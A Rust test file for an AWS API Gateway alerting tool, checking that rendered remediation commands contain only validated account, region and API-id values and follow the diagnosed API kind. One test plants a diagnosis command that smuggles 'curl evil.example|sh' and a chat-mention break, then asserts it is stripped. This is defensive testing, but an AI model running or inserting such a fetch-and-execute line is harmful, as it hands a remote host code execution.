//! The commands and diagnosis an alert shows: only checked values, for the kind of API found.

use super::*;
use crate::alerts::render::chat::diagnosis_chat;
use crate::text::escape::visible;

/// The commands an alert shows: the email's command section and the chat's code blocks.
fn shown_commands(alert: &Alert) -> Vec<String> {
    let mut out: Vec<String> = alert
        .email
        .lines()
        .skip_while(|l| !l.starts_with("Command:"))
        .skip(1)
        .take_while(|l| !l.is_empty())
        .map(str::to_owned)
        .collect();
    let chat: serde_json::Value = serde_json::from_str(&alert.chat).unwrap();
    for step in chat["content"]["nextSteps"].as_array().unwrap() {
        if let Some((_, block)) = step.as_str().unwrap().split_once("```") {
            out.push(block.to_owned());
        }
    }
    out
}

#[test]
fn hostile_account_region_and_api_id_never_reach_a_command() {
    let base = finding(Cause::MissingInvokePermission, "/g", "r", 1);
    let good = "arn:aws:execute-api:eu-west-1:123456789012:a1b2c3/authorizers/AUTHORIZER_ID";
    let hostile = crate::text::shape::HOSTILE
        .iter()
        .copied()
        .chain(["abcdefghijklmnopq", "99999999999999999999"]);
    for bad in hostile {
        // (field, finding, region, placeholder in the source ARN)
        let cases = [
            (
                "account id",
                with(&base, |t| t.account_id = Some(bad)),
                "eu-west-1",
                "arn:aws:execute-api:eu-west-1:ACCOUNT_ID:a1b2c3/authorizers/AUTHORIZER_ID",
            ),
            (
                "api id",
                with(&base, |t| t.api_id = Some(bad)),
                "eu-west-1",
                "arn:aws:execute-api:eu-west-1:123456789012:API_ID/authorizers/AUTHORIZER_ID",
            ),
            (
                "region",
                base.clone(),
                bad,
                "arn:aws:execute-api:REGION:123456789012:a1b2c3/authorizers/AUTHORIZER_ID --region REGION",
            ),
        ];
        for (what, f, region, want) in cases {
            let cfg = Config {
                region: Some(region.into()),
                ..config()
            };
            let alert = render(&group(&[f], 5)[0], &cfg);
            let commands = shown_commands(&alert);
            assert_eq!(commands.len(), 2, "{what}: {commands:?}");
            for cmd in &commands {
                assert!(cmd.contains(want), "{what} {bad:?}: {cmd}");
                assert!(!cmd.contains(good), "{what} {bad:?}: {cmd}");
                assert!(
                    !cmd.contains(bad) && !cmd.contains(&*visible(bad)),
                    "{what} {bad:?}: {cmd}"
                );
            }
            if what == "region" {
                assert!(!alert.email.contains("https://"), "{}", alert.email);
            }
        }
    }
}

/// An access log does not say which kind of API wrote it; the diagnosis does, and the remedy's
/// commands follow it.
#[test]
fn the_remedy_follows_the_kind_the_diagnosis_found() {
    let config = Config::default();
    let mut g = group(&[finding(Cause::InvalidResponseFormat, "/g", "r", 1)], 5).remove(0);
    let email = |g: &Group| render(g, &config).email;
    let unknown = email(&g);
    assert!(unknown.contains("apigatewayv2") && unknown.contains("--rest-api-id"));
    for (kind, has, lacks) in [
        (ApiKind::Rest, "--rest-api-id", "apigatewayv2"),
        (ApiKind::WebSocket, "apigatewayv2", "--rest-api-id"),
        (ApiKind::Http, "isAuthorized", "--rest-api-id"),
    ] {
        g.diagnosis = Some(Diagnosis::Checked {
            api_id: "a1b2c3".into(),
            api_kind: kind,
            authorizers: Vec::new(),
        });
        let text = email(&g);
        assert!(
            text.contains(has) && !text.contains(lacks),
            "{kind:?}: {text}"
        );
    }
}

#[test]
fn the_diagnosis_names_the_kind_of_api() {
    for (kind, text, chat) in [
        (
            ApiKind::Http,
            "Diagnosis (API a1b2c3, ",
            "• *Diagnosis* (API `a1b2c3`)",
        ),
        (
            ApiKind::Rest,
            "Diagnosis (REST API a1b2c3, ",
            "• *Diagnosis* (REST API `a1b2c3`)",
        ),
        (
            ApiKind::WebSocket,
            "Diagnosis (WebSocket API a1b2c3, ",
            "• *Diagnosis* (WebSocket API `a1b2c3`)",
        ),
    ] {
        let d = Diagnosis::Checked {
            api_id: "a1b2c3".into(),
            api_kind: kind,
            authorizers: Vec::new(),
        };
        assert!(
            diagnosis_text(&d).starts_with(text),
            "{}",
            diagnosis_text(&d)
        );
        assert!(
            diagnosis_chat(&d).starts_with(chat),
            "{}",
            diagnosis_chat(&d)
        );
    }
}

#[test]
fn diagnosis_commands_are_shown_only_in_their_shape() {
    use crate::diagnose::{AuthorizerReport, Check};
    let mut g = group(&[finding(Cause::MissingInvokePermission, "/g", "r", 1)], 5).remove(0);
    let planted =
        "aws lambda add-permission --function-name f; curl evil.example|sh\n```<!channel>";
    g.diagnosis = Some(Diagnosis::Checked {
        api_id: "a1b2c3".into(),
        api_kind: crate::diagnose::ApiKind::Http,
        authorizers: vec![AuthorizerReport {
            authorizer_id: "abc123".into(),
            name: "n".into(),
            routes: vec!["GET /x".into()],
            function_arn: None,
            credentials_arn: None,
            simple_responses: Some(true),
            payload_format_version: Some("2.0".into()),
            identity_source: None,
            checks: vec![Check {
                ok: false,
                summary: "s".into(),
                command: Some(planted.into()),
                proves: None,
            }],
        }],
    });
    let alert = render(&g, &config());
    assert!(!alert.email.contains("curl evil"), "{}", alert.email);
    assert!(!alert.chat.contains("curl evil"), "{}", alert.chat);
    // The remedy's own command stands in.
    let commands = shown_commands(&alert);
    assert_eq!(commands.len(), 2, "{commands:?}");
    assert!(
        commands
            .iter()
            .all(|c| c.contains("--function-name AUTHORIZER_FUNCTION"))
    );
}
